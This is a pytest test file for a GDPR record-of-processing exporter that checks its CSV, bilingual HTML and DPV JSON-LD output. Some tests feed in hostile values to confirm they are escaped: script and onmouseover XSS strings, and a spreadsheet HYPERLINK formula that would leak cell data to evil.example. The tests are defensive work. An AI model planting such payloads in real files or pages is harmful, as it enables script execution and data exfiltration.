"""The record's exports: CSV that round-trips, HTML in both languages, JSON-LD in W3C DPV terms."""

from __future__ import annotations

import csv
import io
import json
import re
from functools import cache
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from markup_support import HOSTILE, Markup
from personvern.manifest.categories import BUILTIN_CATEGORIES
from personvern.manifest.loader import load_manifest
from personvern.manifest.model import Manifest
from personvern.ropa.export import (
    CSV_COLUMNS,
    PROCESSOR_CSV_COLUMNS,
    processor_to_csv,
    processor_to_html,
    processor_to_jsonld,
    to_csv,
    to_html,
    to_jsonld,
)
from personvern.ropa.record import build_processor_record, build_record

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
NAMES = ["snapmentor", "vekstly", "lillemini", "minmentor", "teoritentamen"]
DPV = "https://w3id.org/dpv#"
PD = "https://w3id.org/dpv/pd#"
GDPR = "https://w3id.org/dpv/legal/eu/gdpr#"
PD_CONCEPTS = {c.dpv for c in BUILTIN_CATEGORIES.values() if c.dpv}
# Columns that carry an Art. 30(1) element and so may never be empty.
REQUIRED = ("purpose", "controller_name", "controller_orgnr", "controller_contact",
            "representative", "dpo", "legal_basis_detail", "data_subject_categories",
            "personal_data_categories", "recipient_categories", "transfers",
            "erasure_time_limits", "security_measures")


@cache
def manifest(name: str) -> Manifest:
    return load_manifest(EXAMPLES / f"{name}.yaml").manifest


@pytest.mark.parametrize("name", NAMES)
def test_csv_round_trips_through_the_csv_module(name: str) -> None:
    m = manifest(name)
    text = to_csv(build_record(m, "nb"))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["purpose_id"] for r in rows] == [p.id for p in m.purposes]
    for row in rows:
        for column in REQUIRED:
            # Seeds 001, 002 and 004 give no organisasjonsnummer, so neither does the record.
            if column == "controller_orgnr" and m.controller.orgnr is None:
                assert row[column] == ""
                continue
            assert row[column].strip(), (name, row["purpose_id"], column)
    # Written back with the same columns, the text is identical: nothing lost in quoting.
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(CSV_COLUMNS))
    writer.writeheader()
    writer.writerows(rows)
    assert out.getvalue() == text


def test_csv_column_names_are_stable() -> None:
    """Spreadsheets and scripts read these names; renaming one breaks them."""
    assert CSV_COLUMNS[:4] == ("purpose_id", "purpose", "purpose_description", "controller_name")
    assert {"legal_basis_article", "personal_data_dpv", "third_country_recipients",
            "transfers", "erasure_time_limits", "security_measures"} <= set(CSV_COLUMNS)


def test_csv_values() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(build_record(manifest("minmentor"), "en")))))
    hub = next(r for r in rows if r["purpose_id"] == "hub_profiles")
    assert hub["legal_basis"] == "contract" and hub["legal_basis_article"] == "GDPR Art. 6(1)(b)"
    assert f"{PD}EmailAddress" in hub["personal_data_dpv"].split()
    assert "Vercel" in hub["third_country_recipients"]
    assert "Vercel, the United States (US): No transfer mechanism stated" in hub["transfers"]
    assert rows[0]["controller_orgnr"] == "927683172"


class _Tables(HTMLParser):
    """Collects what accessibility needs: captions, header scopes, the lang attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.lang: str | None = None
        self.tables = 0
        self.captions = 0
        self.th_without_scope = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "html":
            self.lang = a.get("lang")
        elif tag == "table":
            self.tables += 1
        elif tag == "caption":
            self.captions += 1
        elif tag == "th" and a.get("scope") not in ("row", "col"):
            self.th_without_scope += 1


@pytest.mark.parametrize("lang", ["nb", "en"])
@pytest.mark.parametrize("name", NAMES)
def test_html_in_both_languages_lists_every_purpose(name: str, lang: str) -> None:
    m = manifest(name)
    page = to_html(build_record(m, lang))  # type: ignore[arg-type]
    for p in m.purposes:
        assert escape(p.name.get(lang)) in page, p.id
    parser = _Tables()
    parser.feed(page)
    assert parser.lang == lang
    assert parser.tables == len(m.purposes) + 1 == parser.captions
    assert parser.th_without_scope == 0
    heading = "Protokoll over behandlingsaktiviteter" if lang == "nb" else (
        "Record of processing activities")
    assert f"<h1>{heading}: {escape(m.service.name)}</h1>" in page


def test_html_escapes_manifest_text() -> None:
    m = manifest("vekstly")
    data = m.model_dump(mode="json")
    data["purposes"][0]["name"] = {"nb": "<script>alert(1)</script>", "en": "A & B"}
    page = to_html(build_record(Manifest.model_validate(data), "nb"))
    assert "<script>alert" not in page and "&lt;script&gt;" in page


def _expand(value: str, context: dict[str, Any]) -> str:
    prefix, sep, rest = value.partition(":")
    return context[prefix] + rest if sep and prefix in context else value


def _walk(node: Any) -> list[Any]:
    out = [node]
    if isinstance(node, dict):
        for v in node.values():
            out += _walk(v)
    elif isinstance(node, list):
        for v in node:
            out += _walk(v)
    return out


@pytest.mark.parametrize("name", NAMES)
def test_jsonld_parses_and_speaks_dpv(name: str) -> None:
    m = manifest(name)
    doc = json.loads(json.dumps(to_jsonld(build_record(m, "en")), ensure_ascii=False))
    ctx = doc["@context"]
    assert ctx["dpv"] == DPV and ctx["pd"] == PD and ctx["eu-gdpr"] == GDPR
    assert doc["dpv:hasDataController"]["dpv:hasName"] == m.controller.name
    parts = doc["dct:hasPart"]
    assert len(parts) == len(m.purposes)
    for part, purpose in zip(parts, m.purposes, strict=True):
        assert "dpv:PersonalDataHandling" in part["@type"] and "dpv:Process" in part["@type"]
        assert part["dpv:hasPurpose"]["@type"] == "dpv:Purpose"
        assert part["dpv:hasDataController"]["@id"] == doc["dpv:hasDataController"]["@id"]
        assert part["dpv:hasPersonalData"] and part["dpv:hasDataSubject"]
        assert "dpv:hasRecipient" in part and "dpv:hasTechnicalOrganisationalMeasure" in part
        if purpose.legal_basis:
            letter = {"consent": "a", "contract": "b", "legal_obligation": "c",
                      "legitimate_interests": "f"}[purpose.legal_basis]
            basis = _expand(part["dpv:hasLegalBasis"]["@id"], ctx)
            assert basis == f"{GDPR}A6-1-{letter}"
        else:
            assert "dpv:hasLegalBasis" not in part
        if purpose.retention:
            assert part["dpv:hasStorageCondition"]
            assert all("dpv:StorageDuration" in s["@type"]
                       for s in part["dpv:hasStorageCondition"])
    # Every pd: concept used is one of the DPV concepts Personvern maps to.
    used = {n["@id"] for n in _walk(doc) if isinstance(n, dict)
            and str(n.get("@id", "")).startswith("pd:")}
    used |= {n["skos:broader"]["@id"] for n in _walk(doc) if isinstance(n, dict)
             and "skos:broader" in n}
    assert used and used <= PD_CONCEPTS
    # Every prefixed name in the document expands through the context.
    for value in _walk(doc):
        if isinstance(value, str) and re.fullmatch(r"(dpv|pd|eu-gdpr|loc):[A-Za-z0-9-]+", value):
            assert _expand(value, ctx).startswith("https://w3id.org/dpv")


def test_jsonld_third_country_transfer_with_its_basis() -> None:
    doc = to_jsonld(build_record(manifest("lillemini"), "nb"))
    service = next(p for p in doc["dct:hasPart"] if p["dct:identifier"] == "service")
    transfers = service["dpv:hasProcess"]
    assert transfers and all(t["dpv:hasLegalBasis"]["@id"] == "eu-gdpr:A49-1-a"
                             for t in transfers)
    mm = to_jsonld(build_record(manifest("minmentor"), "en"))
    hub = next(p for p in mm["dct:hasPart"] if p["dct:identifier"] == "hub_profiles")
    assert {"@id": "loc:US"} in hub["dpv:hasThirdCountry"]
    # MinMentor's seed names its services but not their role: none is typed a processor
    # (the default role is no statement; PV074 asks for it).
    assert "dpv:hasDataProcessor" not in hub
    lilli = to_jsonld(build_record(manifest("lillemini"), "nb"))
    assert any("dpv:hasDataProcessor" in p for p in lilli["dct:hasPart"])
    snap = to_jsonld(build_record(manifest("snapmentor"), "en"))
    assert snap["dpv:hasDataController"]["dpv:hasDataProtectionOfficer"]["dpv:hasContact"] == [
        "snapmentor@gmail.com"]
    # Children among the subjects are typed as such (seed 000's pupils).
    pupils = [s for p in snap["dct:hasPart"] for s in p["dpv:hasDataSubject"]
              if s["@id"].endswith(":pupils")]
    assert pupils and all("dpv:Child" in s["@type"] for s in pupils)


def test_processor_record_exports() -> None:
    proc = build_processor_record(manifest("minmentor"), "nb")
    assert proc is not None
    rows = list(csv.DictReader(io.StringIO(processor_to_csv(proc))))
    assert list(rows[0]) == list(PROCESSOR_CSV_COLUMNS)
    assert {r["processing_id"] for r in rows} >= {"hub_profiles", "competence_sharing"}
    assert rows[0]["controllers"] == "Kundebedriftene som deler kompetanse i huben"
    page = processor_to_html(proc)
    assert '<html lang="nb">' in page and "GDPR artikkel 30 nr. 2" in page
    assert "Profiler i kompetansehuben" in page
    doc = json.loads(json.dumps(processor_to_jsonld(proc)))
    assert doc["dpv:hasDataProcessor"]["@type"] == ["dpv:DataProcessor"]
    assert doc["dpv:hasDataController"]["@type"] == "dpv:DataController"
    assert all(p["dpv:hasDataProcessor"]["@id"] == doc["dpv:hasDataProcessor"]["@id"]
               for p in doc["dct:hasPart"])


def test_csv_cells_never_start_a_formula() -> None:
    """A manifest text a spreadsheet would run as a formula is written as text (OWASP)."""
    data = manifest("vekstly").model_dump(mode="json")
    link = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    data["purposes"][0]["name"] = {"nb": link, "en": link}
    data["purposes"][0]["description"] = {"nb": "@SUM(1+1)", "en": "@SUM(1+1)"}
    record = build_record(Manifest.model_validate(data), "nb")
    rows = list(csv.DictReader(io.StringIO(to_csv(record), newline="")))
    assert rows[0]["purpose"] == "'" + link
    assert rows[0]["purpose_description"] == "'@SUM(1+1)"
    formula = tuple("=+-@\t\r")
    assert not [v for row in rows for v in row.values() if v.startswith(formula)]




@pytest.mark.parametrize("lang", ["nb", "en"])
def test_html_shows_a_hostile_purpose_name_as_text(lang: str) -> None:
    data = manifest("vekstly").model_dump(mode="json")
    data["purposes"][0]["name"] = {"nb": HOSTILE, "en": HOSTILE}
    data["purposes"][0]["description"] = {"nb": HOSTILE, "en": HOSTILE}
    page = to_html(build_record(Manifest.model_validate(data), lang))  # type: ignore[arg-type]
    parser = Markup()
    parser.feed(page)
    assert "script" not in parser.tags and "onmouseover" not in parser.attributes
    # The reader sees the text as written: the heading, the name and the description.
    assert parser.text.count(HOSTILE) >= 3
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &quot;onmouseover=alert(2) x" in page


@pytest.mark.parametrize(("lang", "none_stated", "none"), [
    ("en", "None stated in the manifest", "None"),
    ("nb", "Ingen oppgitt i manifestet", "Ingen"),
])
def test_an_empty_list_in_the_manifest_is_not_recorded_as_none(
        lang: str, none_stated: str, none: str) -> None:
    """A purpose the manifest lists no recipient for is no statement, in the controller's
    record (Art. 30(1)(d)), that nobody receives its data: CSV and HTML say "none stated";
    the record's own findings (no gaps) still say "none"."""
    m = manifest("minmentor")
    bare = next(p for p in m.purposes if not p.recipients)
    record = build_record(m, lang)  # type: ignore[arg-type]
    row = next(r for r in csv.DictReader(io.StringIO(to_csv(record)))
               if r["purpose_id"] == bare.id)
    assert row["recipient_categories"] == none_stated
    assert row["joint_controllers"] == none_stated
    page = to_html(record)
    section = page.split(escape(bare.name.get(lang)), 1)[1].split("</table>", 1)[0]
    assert none_stated in section
    assert f"<td>{none}</td>" not in section
